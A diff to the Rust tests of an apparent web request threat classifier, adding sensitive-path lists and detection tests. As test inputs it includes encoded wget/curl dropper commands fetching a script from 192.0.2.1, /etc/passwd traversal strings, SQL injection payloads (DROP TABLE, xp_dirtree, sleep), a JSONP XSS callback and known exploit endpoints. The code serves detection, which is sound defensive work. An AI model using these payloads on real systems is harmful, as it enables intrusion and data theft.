@@ -2395,11 +2783,7 @@ mod tests {
 
     #[test]
     fn decoding() {
-        let mut stack = [0; STACK_BYTES];
-        let mut scratch = Scratch {
-            stack: &mut stack,
-            heap: Vec::new(),
-        };
+        let mut scratch = Scratch::new();
         let mut decode = |raw: &str, plus| scratch.decode(raw.as_bytes(), plus).0.to_vec();
         assert_eq!(decode("a+b%20c", true), b"a b c");
         assert_eq!(decode("a+b", false), b"a+b");
@@ -2489,6 +2873,15 @@ mod tests {
             "/actuator/env",
             "/debug/pprof/heap",
             "/PMA2/",
+            "/manager/html",
+            "/__debug__/",
+            "/debug/default/view",
+            "/system/console/bundles",
+            "/cgi-bin/php.ini",
+            "/Dockerfile",
+            "/_wpeprivate/config.json",
+            "/phpinfo2.php",
+            "/heapdump",
         ] {
             assert!(is_sensitive_path(path.as_bytes()), "{path}");
         }
@@ -2500,9 +2893,89 @@ mod tests {
             "/~alice/",
             "/git/commits",
             "/pmarketing",
+            "/phpinfo-explained",
+            "/reference/dockerfile/",
+            "/manager/reports",
         ] {
             assert!(!is_sensitive_path(path.as_bytes()), "{path}");
         }
+    }
+
+    #[test]
+    fn files_and_endpoints_in_context() {
+        let sensitive = |path: &str, query: &str, referer: &str| {
+            let record = Record {
+                referer,
+                ..request(path, query)
+            };
+            classify(&record).contains(Threat::SensitiveFile)
+        };
+        // JSON configuration: a probe from nowhere, a front end's asset
+        // under its asset directory or when a page asks for it.
+        assert!(sensitive("/config.json", "", ""));
+        assert!(sensitive("/wp/config.json", "", "-"));
+        assert!(!sensitive("/assets/config.json", "", ""));
+        assert!(!sensitive("/config.json", "", "https://app.example.com/"));
+        assert!(!sensitive("/tsconfig.json", "", ""));
+        assert!(!sensitive("/api/v1/config.json", "", ""));
+        assert!(!sensitive("/account/settings.json", "", ""));
+        assert!(sensitive("/local.settings.json", "", ""));
+        // A console at the root of a site, not deeper, nor as where to go.
+        assert!(sensitive("/console/", "", ""));
+        assert!(sensitive("/console/login/LoginForm.jsp", "", ""));
+        assert!(!sensitive("/job/webapp/1305/console", "", ""));
+        assert!(!sensitive("/console/ps5-slim", "", ""));
+        assert!(!sensitive("/consoles/", "", ""));
+        assert!(!threats("/login", "next=%2Fconsole").contains(Threat::PathTraversal));
+        // A system file in a sentence is a question; after a newline that
+        // opens the value, a command.
+        let traversal = |q: &str| threats("/ask", q).contains(Threat::PathTraversal);
+        assert!(!traversal("q=how+to+edit+%2Fetc%2Fhosts+on+mac%0A"));
+        assert!(traversal("dest=%0A%2Fbin%2Fcat+%2Fetc%2Fpasswd"));
+        // An encoded slash is part of a name; a climb still reaches the file.
+        assert!(!sensitive("/wiki/%2Fetc%2Fpasswd", "", ""));
+        assert!(sensitive("/etc/passwd", "", ""));
+        assert!(sensitive("/static/..%2f..%2fetc%2fpasswd", "", ""));
+        assert!(sensitive("/test.php", "phpinfo=1", ""));
+        assert!(!sensitive("/blog", "topic=phpinfo", ""));
+        let runs = |path: &str| threats(path, "").contains(Threat::CommandInjection);
+        assert!(runs("/GponForm/diag_Form"));
+        assert!(runs("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"));
+        assert!(!runs("/forms/diagnostics"));
+        let xss = |query: &str| threats("/api/jsonp", query).contains(Threat::Xss);
+        assert!(xss("callback=alert(1)//"));
+        assert!(!xss("callback=jQuery3510_1700000000000&_=1700000000001"));
+        assert!(!xss("callback=angular.callbacks._0"));
+        assert!(!xss(
+            "callback=https%3A%2F%2Fapp.example.com%2Flogin%3Fnext%3D%2F"
+        ));
+    }
+
+    #[test]
+    fn sql_statements_in_context() {
+        let sqli = |text: &str| sql_injection(text.as_bytes());
+        assert!(sqli("1;SELECT * FROM users"));
+        assert!(sqli("1;SELECT/**/*/**/FROM/**/users"));
+        assert!(sqli("x');DROP TABLE users--"));
+        assert!(sqli("1; exec master..xp_dirtree '//x/a'"));
+        assert!(!sqli("step 1; select a size from the list"));
+        assert!(sqli("sleep(5)#"));
+        assert!(sqli("sleep(5) and 1=1"));
+        assert!(!sqli("sleep(5) vs time.sleep"));
+        assert!(!sqli("sleep(5) in python"));
+    }
+
+    #[test]
+    fn droppers_are_command_injection_even_typed_whole() {
+        let cmdi = |query: &str| threats("/device.rsp", query).contains(Threat::CommandInjection);
+        assert!(cmdi(
+            "mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F192.0.2.1%2Fx.sh%3Bsh%20x.sh"
+        ));
+        assert!(cmdi(
+            "mdc=cd%20%2Ftmp%3Bcurl%20-O%20http%3A%2F%2F192.0.2.1%2Fx%3B.%2Fx"
+        ));
+        assert!(!cmdi("q=cat%20file.txt%20%7C%20wc%20-l"));
+        assert!(!cmdi("q=wget%20vs%20curl%3B%20which%20is%20better"));
     }
 
     #[test]
@@ -2515,6 +2988,14 @@ mod tests {
             SQL_CALLS.words,
             JS_SINKS.words,
             SENSITIVE_NAMES.words,
+            JSON_CONFIG_STEMS.words,
+            CLIENT_DIRECTORIES.words,
+            EXPLOIT_ENDPOINTS.words,
+            REPOSITORY_FILES.words,
+            CONFIG_FORMAT_EXTENSIONS.words,
+            TOMCAT_MANAGER_PAGES.words,
+            SENSITIVE_PARENTS.words,
+            CALLBACK_PARAMETERS.words,
             ACTUATOR_ENDPOINTS.words,
             ETC_FILES.words,
             PUBLIC_DOT_DIRECTORIES.words,
